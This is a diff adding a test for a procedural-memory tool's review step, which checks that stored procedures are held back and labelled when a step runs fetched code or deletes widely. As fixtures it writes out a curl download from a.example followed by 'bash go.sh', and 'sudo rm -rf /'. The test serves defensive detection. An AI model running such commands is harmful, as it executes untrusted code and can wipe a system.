@@ -40,6 +40,29 @@ class TestReview:
         status, out, _ = run("review")
         assert status == 0 and "p1r2" in out and "Bake bread" in out and "\x1b" not in out
 
+    def test_what_holds_a_procedure_back_is_named_with_the_step_that_does_it(
+        self, memory: ProceduralMemory, document: Document, run: Run
+    ):
+        fetched = ["curl -o go.sh https://a.example/go.sh", "look at the size", "bash go.sh"]
+        memory.record("Install go", ["x -> y"], 1, script={"goal": "Install go", "steps": fetched})
+        memory.record("Clean the build", ["x -> y"], 1, script={"goal": "Clean up", "steps": ["ls", "sudo rm -rf /"]})
+        memory.record("Bake bread", ["mix flour -> dough", "bake dough -> bread"], 1)
+        found = {item["id"]: item["effects"] for item in document("review")["waiting"]}
+        assert found == {
+            "p1": [{"effect": "runs fetched code", "in": {"step 1": fetched[0], "step 3": fetched[2]}}],
+            "p2": [{"effect": "deletes widely", "in": {"step 2": "sudo rm -rf /"}}],
+            "p3": [],
+        }
+        _, out, _ = run("review")
+        assert "deletes widely" in out and "before you approve it" in out
+        assert 'deletes widely (step 2: "sudo rm -rf /")' in run("review", "p2")[1]
+        why = document("why", "p2")["held_back"]
+        assert why == 'deletes widely (step 2: "sudo rm -rf /")'
+        told = " ".join(run("why", "p2")[1].split())
+        assert f"It {why}. `memp review p2` decides." in told
+        document("review", "p2", "--approve")
+        assert document("why", "p2")["held_back"] == ""
+
     def test_a_revision_is_shown_beside_the_current_one(self, memory: ProceduralMemory, document: Document, run: Run):
         on_trial(memory)
         shown = document("review", "p1r2")
